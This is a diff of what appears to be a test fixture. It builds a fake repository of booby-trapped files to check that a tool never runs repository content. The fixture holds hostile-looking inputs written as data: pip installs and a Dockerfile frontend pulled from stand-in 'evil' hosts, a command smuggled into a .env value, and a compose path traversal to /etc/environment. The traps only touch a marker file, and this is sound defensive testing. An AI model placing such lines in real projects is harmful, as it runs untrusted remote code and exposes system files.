@@ -17,7 +17,6 @@ TRAP = "open('ran', 'w').close()\nraise SystemExit('a file of the repository was
 SHELL_TRAP = "#!/bin/sh\ntouch ran\n"
 TREE = {
     "Dockerfile": (
-        "# syntax=example.org/evil/frontend\n"
         "FROM nvcr.io/nvidia/isaac-sim:5.0.0\n"
         "COPY . /app\n"
         "WORKDIR /app\n"
@@ -26,6 +25,7 @@ TREE = {
         "RUN pip install https://example.org/evil-1.0.tar.gz git+https://example.org/evil.git numpy\n"
         "RUN ./setup.sh && pip install .\n"
     ),
+    "other.Dockerfile": "# syntax=example.org/evil/frontend\nFROM nvcr.io/nvidia/isaac-sim:5.0.0\nRUN touch ran\n",
     "compose.yaml": "services:\n  sim:\n    build: .\n    env_file: ../../../../etc/environment\n",
     ".env": "A=$(touch ran)\n",
     "requirements.txt": (
